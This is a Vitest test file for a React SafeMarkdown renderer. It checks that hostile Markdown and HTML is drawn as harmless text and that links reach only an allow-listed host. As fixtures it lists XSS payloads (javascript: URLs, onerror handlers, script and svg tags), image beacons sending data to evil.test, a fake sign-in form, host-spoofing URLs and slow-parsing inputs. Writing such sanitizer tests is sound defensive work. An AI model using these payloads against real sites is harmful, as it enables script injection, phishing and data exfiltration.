// Markdown that wants to load something, lead somewhere, run something or take minutes: drawn, it is words, and what little of it is a link leads to a listed host.
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { SafeMarkdown } from './safe-markdown';

const HOSTS = ['docs.example.com'];
const drawn = (text: string, hosts: readonly string[] = HOSTS) =>
  renderToStaticMarkup(<SafeMarkdown text={text} linkHosts={hosts} />);

const TAGS = new Set(
  'div p strong em del br hr ul ol li blockquote code pre table thead tbody tr th td span a'.split(' '),
);
/** Every tag of a markup with its attributes: text of others stands escaped in it. */
function tagsOf(markup: string): { tag: string; attributes: Record<string, string> }[] {
  return [...markup.matchAll(/<([a-z][a-z0-9]*)((?:\s[^<>]*)?)\/?>/gi)].map(([, tag = '', rest = '']) => ({
    tag,
    attributes: Object.fromEntries(
      [...rest.matchAll(/([\w:-]+)(?:="([^"]*)")?/g)].map(([, name = '', value = '']) => [name, value]),
    ),
  }));
}
function expectHarmless(markup: string): void {
  for (const { tag, attributes } of tagsOf(markup)) {
    expect(TAGS, markup).toContain(tag);
    const { class: _look, start, href, target, rel, tabindex, ...more } = attributes;
    expect(more, markup).toEqual({});
    if (tabindex !== undefined) expect([['pre', 'div'].includes(tag), tabindex]).toEqual([true, '0']);
    if (start !== undefined) expect([tag, /^\d+$/.test(start)]).toEqual(['ol', true]);
    if (tag !== 'a') expect([href, target, rel]).toEqual([undefined, undefined, undefined]);
    else {
      expect(new URL(href ?? '').hostname).toBe('docs.example.com');
      expect([target, rel]).toEqual(['_blank', 'noopener noreferrer nofollow']);
    }
  }
  expect(markup.match(/<(?![a-z/])/gi)).toBeNull();
}

/** What it is · the Markdown · what has to stand in sight. */
const FORMS: readonly (readonly [string, string, string])[] = [
  ['an image', '![logo](https://evil.test/a.png?d=secret)', '[image: logo → evil.test]'],
  ['an image without words', '![](https://evil.test/a.png)', '[image: without words → evil.test]'],
  ['an image of a listed host', '![x](https://docs.example.com/a.png)', '[image: x → docs.example.com]'],
  ['an image by reference', '![x][r]\n\n[r]: https://evil.test/a.png', '[image: x → evil.test]'],
  ['an image as data', '![x](data:image/svg+xml;base64,PHN2Zz4=)', '[image: x → data:]'],
  ['an image without a scheme', '![x](//evil.test/a.png)', '[image: x → //evil.test/a.png]'],
  ['an image in a link', '[![x](https://evil.test/a.png)](https://evil.test/)', '[image: x → evil.test]'],
  ['an image in HTML', '<img src="https://evil.test/a.png" onerror="alert(1)">', '&lt;img src='],
  ['a link', '[click](https://evil.test/?d=1)', 'click<span class="text-muted"> → https://evil.test/?d=1'],
  ['a link by reference', '[click][r]\n\n[r]: https://evil.test/', '→ https://evil.test/'],
  ['a link in angles', '<https://evil.test/a>', 'https://evil.test/a'],
  ['a bare link', 'see https://evil.test/a now', 'https://evil.test/a'],
  ['a bare name', 'see www.evil.test now', '→ http://www.evil.test'],
  ['an address of mail', '<me@evil.test> or mailto:me@evil.test', '→ mailto:me@evil.test'],
  ['javascript', '[x](javascript:alert(1))', '→ javascript:alert(1)'],
  ['javascript in capitals', '[x](JaVaScRiPt:alert(1))', '→ JaVaScRiPt:alert(1)'],
  ['javascript by entities', '[x](&#106;avascript&colon;alert(1))', '→ javascript:alert(1)'],
  ['javascript with a tab', '[x](<java\tscript:alert(1)>)', '→ java%09script:alert(1)'],
  ['javascript in angles', '<javascript:alert(1)>', 'javascript:alert(1)'],
  ['a page as data', '[x](data:text/html,<script>alert(1)</script>)', 'data:text/html'],
  ['vbscript', '[x](vbscript:msgbox(1))', '→ vbscript:msgbox(1)'],
  ['a file', '[x](file:///etc/passwd)', '→ file:///etc/passwd'],
  ['a blob', '[x](blob:https://docs.example.com/1)', '→ blob:https://docs.example.com/1'],
  ['a path of this console', '[approve](/approvals/1)', '→ /approvals/1'],
  ['a link without a scheme', '[x](//evil.test/)', '→ //evil.test/'],
  ['a listed host as the user', '[x](https://docs.example.com@evil.test/)', 'docs.example.com@evil.test'],
  ['a user at a listed host', '[x](https://a:b@docs.example.com/)', '→ https://a:b@docs.example.com/'],
  ['another port of a listed host', '[x](https://docs.example.com:8443/)', ':8443/'],
  ['a host that begins alike', '[x](https://docs.example.com.evil.test/)', '.com.evil.test/'],
  ['a host that ends alike', '[x](https://evildocs.example.com/)', 'evildocs.example.com'],
  ['a host with a dot at the end', '[x](https://docs.example.com./)', 'docs.example.com./'],
  ['a backslash for a slash', '[x](https:\\\\evil.test\\@docs.example.com)', 'evil.test'],
  ['letters that look alike', '[x](https://docs.ехаmple.com/)', '→ https://docs.'],
  ['letters as wide ones', '[x](https://ｅvil.test/)', '→ https://'],
  ['a label that lies', '[https://bank.test](https://docs.example.com/x)', '(docs.example.com)'],
  ['a title', '[x](https://docs.example.com/ "onmouseover=alert(1)")', '(docs.example.com)'],
  ['a quote in an address', '[x](https://docs.example.com/"onclick="alert(1))', 'docs.example.com'],
  ['a script', '<script>alert(1)</script>', '&lt;script&gt;'],
  ['a frame', '<iframe src="https://evil.test"></iframe>', '&lt;iframe'],
  ['a picture that is drawn', '<svg onload=alert(1)><a href="javascript:1">x</a></svg>', '&lt;svg'],
  ['a style', '<style>*{background:url(https://evil.test)}</style>', '&lt;style&gt;'],
  ['a form', '<form action="https://evil.test"><input name=p><button>Sign in</button></form>', '&lt;form'],
  ['a base', '<base href="https://evil.test/">', '&lt;base'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.test">', '&lt;meta'],
  ['HTML in a line', 'a <b onclick="alert(1)">b</b> c', '&lt;b onclick='],
  ['a comment', '<!-- hidden order -->', '&lt;!-- hidden order'],
  ['HTML in a table', '| a |\n|---|\n| <img src=x onerror=alert(1)> |', '&lt;img src=x'],
  ['HTML in code', '`<img src=x>`\n\n```html\n<script>1</script>\n```', '&lt;script&gt;1'],
  ['a footnote', 'a[^1]\n\n[^1]: [x](https://evil.test/)', '→ https://evil.test/'],
  ['a heading with an id', '# <a id="approve"></a>Title {#approve}', 'Title {#approve}'],
  ['a task', '- [x] done\n- [ ] not', '☑'],
  ['an autolink that ends oddly', 'https://docs.example.com.evil.test/&quot;><img>', 'evil.test'],
  ['a reference named like a member', '[x][__proto__]\n\n[__proto__]: javascript:alert(1)', 'javascript:'],
  ['a code language that is a class', '```js onload=alert(1)\nx\n```', 'x'],
];

describe('hostile Markdown', () => {
  it.each(FORMS)('%s is words', (_what, text, seen) => {
    const markup = drawn(text);
    expectHarmless(markup);
    expect(markup).toContain(seen);
    expect(drawn(text, []), 'without a listed host').not.toContain('<a ');
  });

  it('a link leads to a listed host, and says which one it is', () => {
    expect(drawn('[the guide](https://docs.example.com/a?b=c)')).toContain(
      '<a href="https://docs.example.com/a?b=c" target="_blank" rel="noopener noreferrer nofollow" class="link underline underline-offset-2">the guide</a><span class="text-muted"> (docs.example.com)</span>',
    );
    expect(drawn('http://docs.example.com/a')).toContain('<a href="http://docs.example.com/a"');
    expect(drawn('[x](https://DOCS.example.com/a)')).toContain('<a href="https://docs.example.com/a"');
  });

  it('what is meant stays: words, lists, tables, code', () => {
    const markup = drawn('# Head\n\n**a** *b* ~~c~~\n\n3. x\n4. y\n\n| h |\n|:-:|\n| d |\n\n> q\n\n`code`');
    for (const part of [
      '<strong',
      '<em>b',
      '<del>c',
      '<ol start="3"',
      '<th ',
      '<td ',
      '<blockquote',
      '<code>',
    ])
      expect(markup).toContain(part);
    expect(markup).not.toMatch(/<h\d/);
    expectHarmless(markup);
  });

  it('code and tables that are wider than their place are reached and scrolled by keyboard', () => {
    const markup = drawn('```\nlong\n```\n\n| a | b |\n|--:|:-:|\n| 1 | 2 |');
    for (const { tag, attributes } of tagsOf(markup))
      if (/overflow-x-auto/.test(attributes.class ?? '')) expect(attributes.tabindex, tag).toBe('0');
    expect(markup.match(/overflow-x-auto/g)).toHaveLength(2);
    expect(markup).toMatch(/<td class="[^"]*text-right[^"]*">1<\/td><td class="[^"]*text-center[^"]*">2</);
    expectHarmless(markup);
  });
});

const many = (part: string, length = 12_000) => part.repeat(Math.ceil(length / part.length)).slice(0, length);
const SLOW: readonly string[] = [
  ...[
    '>',
    '[',
    '*',
    '_',
    '~',
    '<',
    '|',
    '!',
    '\\',
    '`',
    '&',
    '1. ',
    '- ',
    '+ ',
    '> - ',
    '~a',
    'a@',
    'www.',
    '(',
  ],
  ...[
    '[a](',
    '[a](b)',
    '![a',
    '[^a]',
    '[a]: b\n',
    '[^a]: b\n',
    '*a ',
    '_a_',
    '**a *b ',
    '<!--',
    '<a b=',
    '&a;',
  ],
  ...[
    '- a\n',
    '> a\n',
    '# a\n',
    '1. a\n',
    '---\n',
    '    a\n',
    '```\n',
    '|a|b|\n',
    'a\n',
    'a\n\n',
    '\n',
    '- [ ] a\n',
  ],
  ...['http://a ', 'a@b.c ', '|a'.repeat(100).concat('\n'), `${'> '.repeat(8)}a\n`, `${' - '.repeat(8)}a\n`],
  Array.from({ length: 140 }, (_, i) => `${' '.repeat(i * 2)}- a`).join('\n'),
  `${many('|a', 300)}\n${many('|-', 300)}\n${many('|b', 2_400)}`,
];

describe('Markdown that takes minutes', () => {
  it('is drawn in a moment, as plain text where it has to be', () => {
    const slow = SLOW.map((part) => (part.length > 400 ? part : many(part))).flatMap((text) => {
      const startedMs = performance.now();
      expectHarmless(drawn(text));
      const tookMs = performance.now() - startedMs;
      return tookMs > 1_500 ? [[text.slice(0, 20), Math.round(tookMs)]] : [];
    });
    expect(slow).toEqual([]);
  }, 60_000);

  it('is plain text beyond what is drawn, and where quotes stand in quotes', () => {
    expect(drawn(`**a** ${many('b ')}`)).not.toContain('<strong');
    expect(drawn(`${'>'.repeat(40)} **a**`)).not.toContain('<strong');
    expect(drawn(`${'>'.repeat(4)} **a**`)).toContain('<strong');
    expect(drawn(`a\n\n${'-'.repeat(80)}\n\n**a**`)).toContain('<hr');
  });
});
